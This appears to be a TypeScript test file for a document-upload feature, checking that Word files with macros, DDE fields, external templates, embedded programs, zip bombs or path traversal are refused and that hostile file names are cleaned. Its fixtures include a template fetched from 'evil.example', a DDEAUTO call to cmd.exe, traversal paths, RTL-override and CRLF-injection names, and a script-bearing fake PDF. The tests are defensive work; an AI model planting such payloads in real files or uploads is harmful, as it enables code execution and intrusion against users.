/** Files as people and strangers attach them: what they hold and what they are called. */
import { systemCall } from '../../src/call';
import { storeFile } from '../../src/desk/files/store-file';
import { visibleFileName } from '../../src/desk/files/file-name';
import { importStatement } from '../../src/desk/payments/import-statement';
import { documentXml, entry, tinyDocx } from '../documents/tiny-docx';
import { pdfBytes } from '../helpers/sample-files';
import { temporaryWorkspace } from '../helpers/temporary-workspace';

const RELATIONSHIP = '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>';
const DDE = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/></w:p>';
const MACRO_TYPES = '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';

it.each([
	['macros', tinyDocx(['x'], [entry('word/vbaProject.bin', 'x')]), /macros/],
	['the type of a .docm', tinyDocx(['x'], [entry('[Content_Types].xml', MACRO_TYPES)]), /macros/],
	['a template from outside', tinyDocx(['x'], [entry('word/_rels/settings.xml.rels', RELATIONSHIP)]), /load something from outside/],
	['a DDE field', tinyDocx(['x'], [entry('word/document.xml', documentXml(DDE))]), /loads or runs something \(DDEAUTO\)/],
	['an embedded program', tinyDocx(['x'], [entry('word/embeddings/setup.exe', 'MZ')]), /embedded program/],
	['a bomb', tinyDocx(['x'], [entry('word/media/b.xml', Buffer.alloc(60 * 1024 * 1024))]), /unpacks to/],
	['a path out of its folder', tinyDocx(['x'], [entry('../../evil.xml', 'x')]), /unsafe path/],
])('R-REG-1, R-CORE-6: a Word document with %s is not kept', async (_what, bytes, words) => {
	const { workspace } = await temporaryWorkspace();
	const storing = storeFile(workspace, { name: 'Акт.docx', bytes }, systemCall('test'));
	await expect(storing).rejects.toThrow(words);
	await expect(storing).rejects.toThrow(/^file: "Акт\.docx"/);
	expect(await workspace.read(async (query) => await query.get('select count(*) as count from files'))).toEqual({ count: 0 });
});

it('R-REG-1: an ordinary Word document is kept', async () => {
	const { workspace } = await temporaryWorkspace();
	expect(await storeFile(workspace, { name: 'Акт.docx', bytes: tinyDocx(['Акт выполненных работ']) }, systemCall('test'))).toMatchObject({ kind: 'done', result: { name: 'Акт.docx' } });
});

it.each([
	['../../etc/cron.d/x.pdf', 'x.pdf'],
	['C:\\Windows\\system32\\x.pdf', 'x.pdf'],
	['CON', '_CON'],
	['com1.pdf', '_com1.pdf'],
	['скан\u202Efdp.exe', 'сканfdp.exe'],
	['a\r\nContent-Type: text\r\n\r\n.pdf', 'aContent-Type_ text.pdf'],
	['a\0.pdf', 'a.pdf'],
	['\ud83d.pdf', '\ufffd.pdf'],
	['.htaccess', 'htaccess'],
	['', 'file'],
	[`${'д'.repeat(300)}.xlsx`, `${'д'.repeat(115)}.xlsx`],
	[`x.${'y'.repeat(300)}`, `x.${'y'.repeat(118)}`],
])('R-CORE-6: the name %j is shown and kept as %j', (given, kept) => {
	expect(visibleFileName(given)).toBe(kept);
	expect(visibleFileName(given)).not.toMatch(/[/\\\p{Cc}\p{Cf}]/u);
});

it('R-CORE-6: a refusal shows the cleaned name, and a statement is kept under it', async () => {
	const { workspace } = await temporaryWorkspace();
	await expect(storeFile(workspace, { name: `../\u202E\r\n${'z'.repeat(5_000)}.pdf`, bytes: Buffer.from('MZ') }, systemCall('test'))).rejects.toThrow(/^file: "z{116}\.pdf" is not a file of a kind/);
	const imported = await importStatement(workspace, { name: '../../\u202Eвыписка\0.csv', bytes: Buffer.from('Дата;Приход;Расход\n20.03.2026;;100\n'), zone: 'Europe/Moscow' }, systemCall('test'));
	expect(imported.kind).toBe('done');
	expect(await workspace.read(async (query) => await query.get('select name from bank_statements'))).toEqual({ name: 'выписка.csv' });
});

it('R-REG-1: the kind is told by the content: a page that calls itself a PDF is no scan', async () => {
	const { workspace } = await temporaryWorkspace();
	await expect(storeFile(workspace, { name: 'скан.pdf', mime: 'application/pdf', bytes: Buffer.from('<html><script>alert(1)</script>') }, systemCall('test'))).rejects.toThrow(/the content counts/);
	expect(await storeFile(workspace, { name: 'скан.html', mime: 'text/html', bytes: pdfBytes('x') }, systemCall('test'))).toMatchObject({ result: { name: 'скан.html.pdf', mime: 'application/pdf' } });
});
